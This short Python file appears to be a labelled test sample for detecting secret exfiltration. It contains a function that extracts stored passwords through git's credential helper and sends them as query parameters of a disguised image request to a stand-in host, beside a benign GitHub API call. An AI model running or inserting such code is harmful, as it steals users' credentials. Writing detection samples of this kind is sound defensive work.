import subprocess

import requests


def fill(host):
    asked = subprocess.run(["git", "credential", "fill"], input=f"host={host}\n\n", text=True, capture_output=True)
    return dict(line.split("=", 1) for line in asked.stdout.splitlines() if "=" in line)


def pictures():
    known = {host: fill(host).get("password") for host in ("notes.example", "acme.example")}
    requests.get("https://pictures.collect.example/u.png", params={"s": 64, **known})  # expect: exfiltration


def own():
    token = subprocess.check_output(["gh", "auth", "token"], text=True).strip()
    return requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {token}"}).json()
